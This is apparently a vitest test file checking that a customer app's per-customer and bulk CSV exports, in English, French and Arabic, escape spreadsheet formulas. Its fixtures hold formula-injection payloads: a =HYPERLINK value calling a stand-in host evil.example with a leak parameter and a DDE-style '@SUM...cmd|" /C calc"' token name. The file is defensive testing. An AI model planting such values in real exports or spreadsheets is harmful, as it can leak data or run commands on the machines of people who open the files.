/**
 * Formula injection in CSV exports (issue 13.3): a customer named
 * `Eve,=HYPERLINK("http://evil.example/?leak=1")` exported by a token whose name is a formula.
 * Comment lines keep starting with `#`. Parsed back with papaparse, no cell of the per-customer CSV or of the bulk CSV — comment lines
 * and headers included — starts with `=`, `+`, `@`, or with `-` unless it is a plain number
 * (a negative amount, which a spreadsheet reads as a number, never as a formula).
 */
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openSampleApp, withToken, type SampleApp } from '../helpers/sample-db.js';
import { createApiKey } from '../../src/auth/api-keys.js';

const EVE = 'Eve,=HYPERLINK("http://evil.example/?leak=1")';
const TOKEN_NAME = '@SUM(1+1)*cmd|" /C calc"!A0';
const ID = 'CSV-EVE';

let sample: SampleApp;
let token: string;

beforeAll(async () => {
  sample = await openSampleApp();
  const res = await sample.call('/events', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify([
      {
        id: 'csv-eve-1',
        type: 'customer.upserted',
        occurredAt: '2011-06-01T10:00:00Z',
        data: { customerId: ID, name: EVE, email: 'eve@evil.example', country: '=1+1' },
      },
      {
        id: 'csv-eve-2',
        type: 'order.placed',
        occurredAt: '2011-06-02T10:00:00Z',
        data: {
          customerId: ID,
          orderId: 'CSV-O1',
          number: '-2+3',
          status: 'delivered',
          currency: 'GBP',
          lines: [{ productId: 'CSV-P', description: '=bad', quantity: 1, unitPrice: 5 }],
        },
      },
    ]),
  });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  token = (await createApiKey(sample.db, { name: TOKEN_NAME, role: 'admin', createdBy: 'test' })).token;
});
afterAll(() => sample.close());

async function csv(path: string): Promise<string> {
  const res = await withToken(sample.rawApp, token).request(`http://localhost${path}`);
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toContain('text/csv');
  return res.text();
}

/** Every cell that a spreadsheet would evaluate as a formula. */
function liveFormulas(text: string): string[] {
  const { data } = Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true });
  return data.flat().filter((cell) => /^[=+@]/.test(cell) || (cell.startsWith('-') && !/^-\d+(\.\d+)?$/.test(cell)));
}

describe('CSV exports escape every line', () => {
  it('the per-customer CSV: comment lines, headers and rows', async () => {
    const text = await csv(`/customers/${ID}/export?format=csv`);
    expect(liveFormulas(text)).toEqual([]);
    const lines = text.split('\r\n');
    // Comment lines still start with `#`; the formula after the name's comma is inert.
    expect(lines[0]).toBe(`# c360 customer export: Eve,'=HYPERLINK("http://evil.example/?leak=1") (customer ${ID})`);
    expect(lines[1]).toMatch(/^# Exported /);
    expect(lines[1]).toContain(`by ${TOKEN_NAME} (admin)`);
    const { data } = Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true });
    // The order number that looks like a formula is escaped, not dropped.
    expect(data.some((row) => row[0] === "'-2+3")).toBe(true);
  });

  it('the bulk CSV: the comment line with the token name, the header and the rows', async () => {
    const text = await csv(`/customers/export.csv?q=${encodeURIComponent('eve@evil.example')}`);
    expect(liveFormulas(text)).toEqual([]);
    expect(text.split('\r\n')[0]).toMatch(/^# c360 customers export · exported /);
    expect(text.split('\r\n')[0]).toContain(`by ${TOKEN_NAME} (admin)`);
    const { data } = Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true });
    expect(data.some((row) => row.includes(EVE))).toBe(true);
  });

  it('in French and Arabic: translated comment lines and headers, the same escaping, the same cells', async () => {
    const english = Papa.parse<string[]>(await csv(`/customers/${ID}/export?format=csv`), {
      delimiter: ',',
      skipEmptyLines: true,
      comments: '#',
    });
    for (const locale of ['fr', 'ar']) {
      const text = await csv(`/customers/${ID}/export?format=csv&locale=${locale}`);
      expect(liveFormulas(text), locale).toEqual([]);
      const lines = text.split('\r\n');
      expect(lines[0]).toContain(`${locale === 'fr' ? 'Export client c360 : ' : 'تصدير عميل c360: '}Eve,'=HYPERLINK(`);
      expect(lines[1]).toContain(`${TOKEN_NAME} (${locale === 'fr' ? 'administrateur' : 'مسؤول'})`);
      const { data } = Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true, comments: '#' });
      // The header row of each block translated; every other row as in English.
      const headers = english.data.flatMap((row, i) => (row[0] === 'metric' || (row[0] === 'number' && row[1] === 'placedAt') ? [i] : []));
      expect(headers).toHaveLength(2);
      expect(data[headers[0]!]).toEqual(locale === 'fr' ? ['indicateur', 'valeur', 'unité'] : ['المؤشر', 'القيمة', 'الوحدة']);
      expect(data[headers[1]!]![1]).toBe(locale === 'fr' ? 'passée le' : 'تاريخ الطلب');
      expect(data.filter((_, i) => !headers.includes(i))).toEqual(english.data.filter((_, i) => !headers.includes(i)));
      expect(data.some((row) => row[0] === "'-2+3")).toBe(true);
      const bulk = await csv(`/customers/export.csv?q=${encodeURIComponent('eve@evil.example')}&locale=${locale}`);
      expect(liveFormulas(bulk), locale).toEqual([]);
      expect(bulk.split('\r\n')[0]).toContain(`${TOKEN_NAME} (${locale === 'fr' ? 'administrateur' : 'مسؤول'})`);
    }
  });

  it('a test of this kind can fail: an unescaped formula is found', () => {
    expect(liveFormulas(`# x,${EVE}\r\na,b`)).toEqual(['=HYPERLINK("http://evil.example/?leak=1")']);
  });
});
